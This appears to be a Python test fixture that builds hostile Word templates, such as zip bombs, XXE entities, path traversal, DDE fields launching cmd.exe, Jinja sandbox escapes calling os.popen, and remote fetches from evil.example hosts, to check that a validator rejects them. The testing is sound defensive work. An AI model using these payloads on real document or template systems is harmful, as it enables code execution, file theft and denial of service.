# ruff: noqa: E501
"""Files that pretend to be a consultant's template: one trick each."""

import warnings
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from tests.word import templates
from tests.word.templates import W, changed, file_of, files_of, plain, written
from tracker.word.template.problems import Code

DOCUMENT, SETTINGS, CORE = "word/document.xml", "word/settings.xml", "docProps/core.xml"
TYPES, RELATIONS = "[Content_Types].xml", "word/_rels/document.xml.rels"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MS_REL = "http://schemas.microsoft.com/office/2006/relationships"


@dataclass(frozen=True)
class Trick:
    """`code`, `part` and `place` are what the refusal must name; `what`, a piece of what it must quote."""

    make: Callable[[], bytes]
    code: Code
    part: str = ""
    place: str = ""
    what: str = ""


def good() -> bytes:
    return written(plain("Above"))


def text(words: str, **more: str) -> Callable[[], bytes]:
    return lambda: written(plain(words))


def of(*paragraphs: str) -> Callable[[], bytes]:
    """A template of these paragraphs alone, without a place for the report unless one names it."""
    return lambda: written(plain(*paragraphs, report=False))


def with_files(more: Mapping[str, bytes]) -> Callable[[], bytes]:
    return lambda: file_of(files_of(good()) | dict(more))


def with_part(name: str, content: bytes, kind: str, *, of: str = RELATIONS) -> Callable[[], bytes]:
    return lambda: file_of(
        files_of(changed(good(), of, related(kind, name.removeprefix("word/")))) | {name: content}
    )


def related(kind: str, target: str, *, outside: bool = False) -> Callable[[str], str]:
    kind = kind if "/" in kind else f"{_REL}/{kind}"
    mode = ' TargetMode="External"' if outside else ""
    entry = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return lambda xml: xml.replace("</Relationships>", entry)


def relation(kind: str, target: str, *, outside: bool = True, of: str = RELATIONS) -> Callable[[], bytes]:
    return lambda: changed(good(), of, related(kind, target, outside=outside))


def in_document(xml: str) -> Callable[[], bytes]:
    """Put XML before the first paragraph."""
    return lambda: changed(good(), DOCUMENT, lambda told: told.replace("<w:body>", f"<w:body>{xml}", 1))


def in_paragraph(xml: str) -> Callable[[], bytes]:
    return in_document(f'<w:p xmlns:w="{W}"><w:r><w:t>Here</w:t></w:r>{xml}</w:p>')


def field(*instructions: str, inside: str = "") -> str:
    codes = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in instructions)
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}{inside}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def zipped(members: list[tuple[str | ZipInfo, bytes]]) -> bytes:
    result = BytesIO()
    with ZipFile(result, "w", ZIP_DEFLATED) as archive:
        for name, content in [*files_of(good()).items(), *members]:
            archive.writestr(name, content)
    return result.getvalue()


def symlink() -> bytes:
    member = ZipInfo("word/link.xml")
    member.external_attr = 0o120777 << 16
    return zipped([(member, b"/etc/passwd")])


def named_twice() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return zipped([("word/document.xml", b"<w/>")])


def encrypted() -> bytes:
    """Set the flag of encryption on every member."""
    data = bytearray(good())
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sign)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(sign, at + 4)
    return bytes(data)


def compound(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + stream.encode("utf-16-le") + b"\x00" * 2048


def typed(content_type: str) -> bytes:
    return changed(
        good(),
        TYPES,
        lambda xml: xml.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", content_type
        ),
    )


def header(words: str) -> bytes:
    document = plain("Above")
    document.sections[0].header.paragraphs[0].text = words
    return written(document)


def properties(**values: str) -> Callable[[], bytes]:
    def make() -> bytes:
        document = plain("Above")
        for name, value in values.items():
            setattr(document.core_properties, name, value)
        return written(document)

    return make


def footnote(words: str) -> bytes:
    notes = (
        f'<w:footnotes xmlns:w="{W}"><w:footnote w:id="2"><w:p><w:r><w:t>{words}</w:t></w:r></w:p>'
        "</w:footnote></w:footnotes>"
    )
    return with_part("word/footnotes.xml", notes.encode(), "footnotes")()


def in_table(words: str) -> bytes:
    document = plain("Above", report=False)
    document.add_table(1, 1).cell(0, 0).text = words
    return written(document)


def in_table_if() -> bytes:
    document = plain("Above")
    table = document.add_table(1, 2)
    table.cell(0, 0).text = "{% if sponsor %}"
    table.cell(0, 1).text = "{% endif %}"
    return written(document)


def split_tag(*parts: str) -> Callable[[], bytes]:
    def make() -> bytes:
        document = plain("Above")
        templates.split(document.add_paragraph(), *parts)
        return written(document)

    return make


def narrow() -> bytes:
    document = plain("Above")
    document.sections[0].left_margin = document.sections[0].page_width * 6 // 10
    return written(document)


def laughing(declared: str, used: str) -> Callable[[], bytes]:
    def change(xml: str) -> str:
        head, _, body = xml.partition("?>")
        return f"{head}?><!DOCTYPE w [{declared}]>{body.replace('Above', used)}"

    return lambda: changed(good(), DOCUMENT, change)


def zeros(megabytes: int) -> bytes:
    return b"\x00" * (megabytes * 1024 * 1024)


@cache
def bomb() -> bytes:
    result = BytesIO()
    with ZipFile(result, "w", ZIP_DEFLATED) as archive:
        for name, content in files_of(good()).items():
            archive.writestr(name, content)
        with archive.open("word/media/image1.png", "w") as part:
            for _ in range(300):
                part.write(zeros(1))
    return result.getvalue()


def quoted(instruction: str) -> str:
    return field("QUOTE " + " ".join(str(ord(letter)) for letter in instruction))


_LAUGHS = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
_OLE = f'<w:object xmlns:w="{W}"/>'
_EXE = b"MZ\x90\x00" + b"\x00" * 64
_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
_DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
_STRICT_OLD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
_STRICT_NEW = "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"

TRICKS = {
    # U1, U2, U24: what it is
    "an empty file": Trick(lambda: b"", Code.NOT_WORD),
    "a text": Trick(lambda: b"Dear board, {{ report }}", Code.NOT_WORD),
    "a file cut off": Trick(lambda: good()[:-200], Code.NOT_WORD),
    "a zip of holiday pictures": Trick(
        lambda: file_of({"a.png": b"\x89PNG", "b.png": b"\x89PNG"}), Code.NOT_WORD),
    "a workbook": Trick(lambda: typed(_XLSX), Code.NOT_WORD),
    "a .docm": Trick(lambda: typed(_DOCM), Code.MACRO, DOCUMENT),
    "a program": Trick(lambda: _EXE, Code.NOT_WORD),
    "an old .doc": Trick(lambda: compound("WordDocument"), Code.OLD_WORD),
    "a file with a password": Trick(lambda: compound("EncryptedPackage"), Code.PASSWORD),
    "a zip with a password": Trick(encrypted, Code.PASSWORD),
    "Strict Open XML": Trick(
        lambda: changed(good(), "_rels/.rels", lambda xml: xml.replace(_STRICT_OLD, _STRICT_NEW)), Code.STRICT),
    # U3, U4: the zip
    "more than ten megabytes": Trick(lambda: b"PK\x03\x04" + zeros(11), Code.TOO_LARGE),
    "a zip bomb": Trick(bomb, Code.TOO_LARGE),
    "thirty megabytes of XML": Trick(
        with_files({"word/more.xml": b"<a>" + b"<b/>" * 2_500_000 + b"</a>"}), Code.TOO_LARGE),
    "half a million elements": Trick(
        with_files({"word/more.xml": b"<a>" + b"<b/>" * 500_000 + b"</a>"}), Code.TOO_LARGE, "word/more.xml"),
    "a million members": Trick(
        lambda: zipped([(f"word/{n}.xml", b"<a/>") for n in range(2_100)]), Code.TOO_MANY_PARTS),
    "seven hundred parts": Trick(
        lambda: zipped([(f"word/{n}.xml", b"<a/>") for n in range(700)]), Code.TOO_MANY_PARTS),
    "two members of one name": Trick(named_twice, Code.TWICE, DOCUMENT),
    "a zip in the zip": Trick(
        with_files({"word/media/image1.png": file_of({"a": b"a"})}), Code.FOREIGN, "word/media/image1.png"),
    "a file that is no picture": Trick(
        with_files({"word/media/image1.png": b"<html>"}), Code.FOREIGN, "word/media/image1.png"),
    "a member outside": Trick(lambda: zipped([("../evil.xml", b"<a/>")]), Code.OUTSIDE, "../evil.xml"),
    "a member at the root": Trick(lambda: zipped([("/etc/evil.xml", b"<a/>")]), Code.OUTSIDE, "/etc/evil.xml"),
    "a member on C:": Trick(lambda: zipped([("C:/evil.xml", b"<a/>")]), Code.OUTSIDE, "C:/evil.xml"),
    "a symbolic link": Trick(symlink, Code.OUTSIDE, "word/link.xml"),
    "a part that is missing": Trick(relation("image", "media/gone.png", outside=False), Code.MISSING, DOCUMENT,
                                    what="gone.png"),
    "XML that is broken": Trick(with_files({DOCUMENT: b"<w:document"}), Code.XML, DOCUMENT),
    # U5: what XML can declare
    "an external entity": Trick(
        laughing('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"), Code.DTD, DOCUMENT),
    "a billion laughs": Trick(laughing(_LAUGHS, "&i;"), Code.DTD, DOCUMENT),
    "a DTD in a part nobody reads": Trick(
        with_files({"customXml/item9.xml": b'<!DOCTYPE a SYSTEM "http://evil/"><a/>'}), Code.DTD, "customXml/item9.xml"),
    "a DTD in UTF-16": Trick(
        with_files({"word/more.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")}),
        Code.DTD, "word/more.xml"),
    "a DTD in a picture": Trick(
        with_files({"word/media/a.svg": b"<!DOCTYPE svg [<!ENTITY a 'b'>]><svg/>"}), Code.DTD, "word/media/a.svg"),
    # U6: what runs
    "a macro": Trick(with_files({"word/vbaProject.bin": b"x"}), Code.MACRO, "word/vbaProject.bin"),
    "a macro of another name": Trick(
        with_part("word/harmless.xml", b"<a/>", f"{_MS_REL}/vbaProject"), Code.MACRO, DOCUMENT, what="harmless"),
    "keys that call macros": Trick(
        with_part("word/keys.xml", b"<a/>", f"{_MS_REL}/keyMapCustomizations"), Code.MACRO, DOCUMENT),
    "ActiveX": Trick(with_files({"word/activeX/activeX1.bin": b"x"}), Code.ACTIVE, "word/activeX/activeX1.bin"),
    "a control": Trick(in_paragraph("<w:r><w:control/></w:r>"), Code.ACTIVE, DOCUMENT, "Here"),
    "an OLE object": Trick(with_files({"word/embeddings/oleObject1.bin": b"x"}), Code.EMBEDDED,
                           "word/embeddings/oleObject1.bin"),
    "an object in the text": Trick(in_paragraph("<w:r><w:object/></w:r>"), Code.EMBEDDED, DOCUMENT, "Here"),
    "an embedded workbook": Trick(
        with_part("word/book.xml", b"<a/>", "package"), Code.EMBEDDED, DOCUMENT, what="book.xml"),
    "a ribbon of its own": Trick(
        with_part("customUI/ui.xml", b"<a/>", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                  of="_rels/.rels"), Code.ACTIVE, "_rels/.rels"),
    "an add-in that opens by itself": Trick(
        with_part("word/pane.xml", b"<a/>", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"),
        Code.ACTIVE, DOCUMENT),
    "a picture with a script": Trick(
        with_files({"word/media/a.svg": _SVG.format("<script>fetch('/')</script>").encode()}), Code.ACTIVE,
        "word/media/a.svg"),
    "a program as a font": Trick(
        with_files({"word/fonts/font1.odttf": _EXE}), Code.FOREIGN, "word/fonts/font1.odttf"),
    "a relation nobody knows": Trick(
        with_part("word/new.xml", b"<a/>", "http://example.com/surprise"), Code.FOREIGN, DOCUMENT, what="surprise"),
    # U7: what fetches
    "a template from afar under another kind": Trick(
        relation("frame", "https://evil.example/t.dotm"), Code.FOREIGN, DOCUMENT),
    "a picture from afar": Trick(
        relation("image", "https://evil.example/pixel.png"), Code.EXTERNAL, DOCUMENT, what="pixel.png"),
    "a picture on a share": Trick(relation("image", "\\\\evil\\share\\a.png"), Code.EXTERNAL, DOCUMENT),
    "a link to a file": Trick(relation("hyperlink", "file:///etc/passwd"), Code.EXTERNAL, DOCUMENT, what="passwd"),
    "a link that is a script": Trick(relation("hyperlink", "javascript:alert(1)"), Code.EXTERNAL, DOCUMENT),
    "a link to Word's own handler": Trick(relation("hyperlink", "ms-msdt:/id"), Code.EXTERNAL, DOCUMENT),
    "an old picture that fetches": Trick(
        in_paragraph('<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil/a"/></w:pict></w:r>'),
        Code.EXTERNAL, DOCUMENT, "Here", "http://evil/a"),
    "a drawing that fetches": Trick(
        with_files({"word/media/a.svg": _SVG.format('<image href="http://evil/a"/>').encode()}), Code.EXTERNAL,
        "word/media/a.svg", what="http://evil/a"),
    "another file's text": Trick(in_document('<w:altChunk r:id="rId1"/>'), Code.ALT_CHUNK, DOCUMENT),
    "another file's text by relation": Trick(
        with_part("word/chunk.xml", b"<a/>", "aFChunk"), Code.ALT_CHUNK, DOCUMENT),
    "a chapter in another file": Trick(in_document('<w:subDoc r:id="rId1"/>'), Code.SUB_DOCUMENT, DOCUMENT),
    # fields
    "DDE": Trick(in_paragraph(field(_DDE)), Code.FIELD, DOCUMENT, "Here", "DDEAUTO"),
    "DDE over several runs": Trick(
        in_paragraph(field("D", "DEA", "UTO cmd")), Code.FIELD, DOCUMENT, "Here", "DDEAUTO"),
    "DDE as numbers": Trick(in_paragraph(quoted(_DDE)), Code.FIELD, DOCUMENT, "Here", "QUOTE"),
    "DDE inside an IF": Trick(
        in_paragraph(field('IF 1 = 1 "', inside=field(_DDE))), Code.FIELD, DOCUMENT, "Here", "DDEAUTO"),
    "a field whose name a field makes": Trick(
        in_paragraph(field("", inside=field("IF 1 = 1 DDE"))), Code.FIELD_HIDDEN, DOCUMENT, "Here"),
    "a field half named by a field": Trick(
        in_paragraph(field("DDE", inside=field("PAGE"))), Code.FIELD_HIDDEN, DOCUMENT, "Here"),
    "a simple field": Trick(
        in_paragraph('<w:fldSimple w:instr="INCLUDEPICTURE http://evil/a"/>'), Code.FIELD, DOCUMENT, "Here",
        "INCLUDEPICTURE"),
    "another file by field": Trick(in_paragraph(field("INCLUDETEXT c:\\\\a.txt")), Code.FIELD, DOCUMENT, "Here"),
    "a button for a macro": Trick(in_paragraph(field("MACROBUTTON AutoOpen Click")), Code.FIELD, DOCUMENT, "Here"),
    "a field from a mailing": Trick(in_paragraph(field("MERGEFIELD Name")), Code.FIELD, DOCUMENT, "Here"),
    "a link to a program by field": Trick(
        in_paragraph(field('HYPERLINK "file://evil/calc.exe"')), Code.EXTERNAL, DOCUMENT, "Here", "calc.exe"),
    "a day that moves": Trick(in_paragraph(field("DATE \\@ yyyy")), Code.FIELD_MOVES, DOCUMENT, "Here", "DATE"),
    "a field that was deleted": Trick(
        in_paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:del><w:r><w:delInstrText>DDE x</w:delInstrText>'
                     '</w:r></w:del><w:r><w:fldChar w:fldCharType="end"/></w:r>'), Code.FIELD, DOCUMENT, "Here", "DDE"),
    "a field left open": Trick(
        in_paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'), Code.FIELD_OPEN, DOCUMENT, "Here"),
    "a field code without a field": Trick(
        in_paragraph("<w:r><w:instrText>DDE x</w:instrText></w:r>"), Code.FIELD_HIDDEN, DOCUMENT, "Here"),
    "a field in a header": Trick(
        lambda: changed(header("Top"), "word/header1.xml", lambda x: x.replace("<w:r>", field("DDE x") + "<w:r>", 1)),
        Code.FIELD, "word/header1.xml", "Top"),
    # U8, U9: tags
    "a name that is none of ours": Trick(text("{{ rolout }}"), Code.UNKNOWN_NAME, DOCUMENT, "{{ rolout }}"),
    "a class": Trick(text("{{ title.__class__ }}"), Code.ATTRIBUTE, DOCUMENT, "{{ title.__class__ }}"),
    "a class by index": Trick(text("{{ title['__class__'] }}"), Code.ATTRIBUTE, DOCUMENT),
    "the way to every class": Trick(text("{{ ''.__class__.__mro__[1].__subclasses__() }}"), Code.CALL, DOCUMENT),
    "cycler": Trick(text("{{ cycler.__init__.__globals__.os.popen('id').read() }}"), Code.CALL, DOCUMENT),
    "lipsum": Trick(text("{{ lipsum.__globals__ }}"), Code.ATTRIBUTE, DOCUMENT),
    "lipsum in curly quotes": Trick(text("{{ lipsum.__globals__[“os”] }}"), Code.ATTRIBUTE, DOCUMENT),
    "self": Trick(text("{{ self }}"), Code.UNKNOWN_NAME, DOCUMENT),
    "the attr filter": Trick(text("{{ title|attr('__class__') }}"), Code.FILTER, DOCUMENT),
    "a filter of a million spaces": Trick(text("{{ title|center(3000000000) }}"), Code.FILTER, DOCUMENT),
    "text that is not escaped": Trick(text("{{ title|safe }}"), Code.FILTER, DOCUMENT),
    "str.format": Trick(text("{{ '{0.__class__}'.format(title) }}"), Code.CALL, DOCUMENT),
    "a deletion": Trick(text("{{ rollout.delete() }}"), Code.CALL, DOCUMENT),
    "a billion letters": Trick(text("{{ 'a' * 1000000000 }}"), Code.EXPRESSION, DOCUMENT),
    "a billion digits": Trick(text("{{ '%01000000000d' % 1 }}"), Code.EXPRESSION, DOCUMENT),
    "a power": Trick(text("{{ 9 ** 9 ** 9 }}"), Code.EXPRESSION, DOCUMENT),
    "brackets without end": Trick(text("{{ " + "(" * 5_000 + " }}"), Code.SYNTAX, DOCUMENT),
    "a loop": Trick(text("{% for x in range(100000000) %}x{% endfor %}"), Code.LOOP, DOCUMENT),
    "a loop over several runs": Trick(split_tag("{", "% fo", "r x in y %", "}"), Code.LOOP, DOCUMENT),
    "a class over several runs": Trick(split_tag("{", "{ title._", "_class_", "_ }", "}"), Code.ATTRIBUTE, DOCUMENT),
    "an include": Trick(text("{% include '/etc/passwd' %}"), Code.STATEMENT, DOCUMENT),
    "a set": Trick(text("{% set title = 1 %}"), Code.STATEMENT, DOCUMENT),
    "a macro of Jinja": Trick(text("{% macro x() %}{% endmacro %}"), Code.LOOP, DOCUMENT),
    "raw": Trick(text("{% raw %}{{ title }}{% endraw %}"), Code.STATEMENT, DOCUMENT),
    "a comment of Jinja": Trick(text("{# secret #}"), Code.STATEMENT, DOCUMENT, "{# secret #}"),
    "a call in an if": Trick(text("{% if lipsum() %}x{% endif %}"), Code.CALL, DOCUMENT),
    "docxtpl's own tags": Trick(text("{{r title }}"), Code.SYNTAX, DOCUMENT),
    "a tag that joins paragraphs": Trick(text("{{- title -}}"), Code.SYNTAX, DOCUMENT),
    "a million tags left open": Trick(text("{{ " * 1_000_000), Code.UNCLOSED, DOCUMENT),
    "a tag left open": Trick(text("Dear {{ audience"), Code.UNCLOSED, DOCUMENT, "Dear {{ audience"),
    "a tag over two paragraphs": Trick(of("{{ report }}", "{{ audi", "ence }}"), Code.UNCLOSED, DOCUMENT, "{{ audi"),
    "an if left open": Trick(text("{% if sponsor %}x"), Code.IF_OPEN, DOCUMENT, "{% if sponsor %}x"),
    "an endif too many": Trick(text("x{% endif %}"), Code.IF_EXTRA, DOCUMENT),
    "an if across a cell's edge": Trick(
        in_table_if, Code.IF_PLACE, DOCUMENT, "{% endif %}"),
    "an if from the middle of a paragraph": Trick(
        of("{{ report }}", "a {% if sponsor %} b", "c {% endif %} d"), Code.IF_PLACE, DOCUMENT, "c {% endif %} d"),
    "a tag in a field's code": Trick(in_paragraph(field("REF {{ title }}")), Code.TAG_PLACE, DOCUMENT, "Here"),
    "a tag in an attribute": Trick(
        in_document('<w:p><w:pPr><w:pStyle w:val="{{ title }}"/></w:pPr></w:p>'), Code.TAG_PLACE, DOCUMENT),
    # U10: elsewhere
    "a tag in the header": Trick(lambda: header("Top {{ x.y }}"), Code.ATTRIBUTE, "word/header1.xml", "Top {{ x.y }}"),
    "a tag in a footnote": Trick(lambda: footnote("See {{ x }}"), Code.UNKNOWN_NAME, "word/footnotes.xml", "See {{ x }}"),
    "a tag in the title": Trick(properties(title="{{ lipsum() }}"), Code.CALL, CORE, what="lipsum"),
    "an if left open in a property": Trick(properties(subject="{% if title %}"), Code.IF_OPEN, CORE),
    "a tag in a property that is not filled": Trick(properties(keywords="{{ title }}"), Code.TAG_PLACE, CORE),
    "a tag in the settings": Trick(
        lambda: changed(good(), SETTINGS, lambda x: x.replace("<w:zoom", '<w:zoom w:x="{{ title }}"')),
        Code.TAG_PLACE, SETTINGS),
    # where the report goes
    "no place for the report": Trick(of("Nothing"), Code.NO_REPORT, DOCUMENT),
    "two places for the report": Trick(of("{{ report }}", "{{ report }}"), Code.REPORT_TWICE, DOCUMENT),
    "the report inside a sentence": Trick(of("See {{ report }}."), Code.REPORT_PLACE, DOCUMENT, "See {{ report }}."),
    "the report in a cell": Trick(lambda: in_table("{{ report }}"), Code.REPORT_PLACE, DOCUMENT),
    "the report in a header": Trick(lambda: header("{{ report }}"), Code.REPORT_PLACE, "word/header1.xml"),
    "the report in an if": Trick(
        of("{% if sponsor %}", "{{ report }}", "{% endif %}"), Code.REPORT_PLACE, DOCUMENT, "{{ report }}"),
    "the report in a filter": Trick(of("{{ report|upper }}"), Code.REPORT_PLACE, DOCUMENT),
    "a column too narrow to read": Trick(narrow, Code.NARROW, DOCUMENT, "{{ report }}"),
}  # fmt: skip
